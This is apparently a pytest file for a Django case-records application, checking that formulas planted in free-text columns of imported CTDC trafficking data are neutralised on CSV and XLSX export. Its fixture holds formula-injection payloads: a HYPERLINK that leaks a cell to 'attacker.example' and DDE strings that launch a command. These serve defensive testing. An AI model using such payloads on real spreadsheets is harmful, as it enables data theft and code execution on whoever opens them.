"""Issue 13, finding 6: formulas imported into CTDC's free-text columns come back out
neutralised, in CTDC's layout as in every other, while other values round-trip unchanged."""

import csv

import pytest
from openpyxl import load_workbook

from quipu.cases.models import Case
from quipu.intake.case_records import case_records
from quipu.intake.exports import export_write
from quipu.intake.imports import import_file
from tests.conftest import shared_reference

pytestmark = pytest.mark.django_db

# Free-text columns: the model keeps their text when it differs from what the flags say.
PLANTED = {
    1: ("RecruiterRelationship", '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'),
    2: ("typeOfExploitConcatenated", "+cmd|' /C calc'!A0"),
    3: ("meansOfControlConcatenated", "@SUM(1+1)*cmd|' /C calc'!A0"),
}


@pytest.fixture
def ctdc_rows_with_formulas(tmp_path):
    """The real CTDC file's header and first rows, with formulas planted in free-text cells."""
    kanon = shared_reference("ctdc", "ctdc_global_kanon_2021-07-15.csv")
    with kanon.open(newline="", encoding="utf-8") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        rows = [next(reader) for _ in range(6)]
    for row_number, (column, formula) in PLANTED.items():
        rows[row_number][header.index(column)] = formula
    source = tmp_path / "planted.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\n").writerows([header, *rows])
    return source, header, rows


def _exported(region, source, tmp_path, export_format):
    owner = region.institution("IOM")
    result = import_file(path=source, owner=owner, requested="ctdc")
    assert result.ok, result.errors[:5]
    target = tmp_path / f"export.{export_format}"
    export_write(case_records(Case.objects.filter(owner=owner)), export_format, target)
    return target


def test_ctdc_export_neutralises_formulas_and_keeps_every_other_cell(
    region, ctdc_rows_with_formulas, tmp_path
):
    source, header, rows = ctdc_rows_with_formulas
    target = _exported(region, source, tmp_path, "ctdc")
    with target.open(newline="", encoding="utf-8") as handle:
        exported_header, *exported = list(csv.reader(handle))
    assert exported_header == header
    for row_number, (column, formula) in PLANTED.items():
        assert exported[row_number][header.index(column)] == "'" + formula
    for source_row, exported_row in zip(rows, exported, strict=True):
        changed = [c for c, a, b in zip(header, source_row, exported_row, strict=True) if a != b]
        assert len(changed) <= 1 and all(c in dict(PLANTED.values()) for c in changed)
    assert b"\r\n" not in target.read_bytes()  # CTDC's Unix line ends are kept


def test_ctdc_cells_with_formulas_are_neutralised_in_the_spreadsheet_formats(
    region, ctdc_rows_with_formulas, tmp_path
):
    source, _header, _rows = ctdc_rows_with_formulas
    target = _exported(region, source, tmp_path, "xlsx")
    sheet = load_workbook(target).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [str(c.value) for c in cells if c.value is not None]
    assert not [t for t in texts if t[:1] in "=+@"]
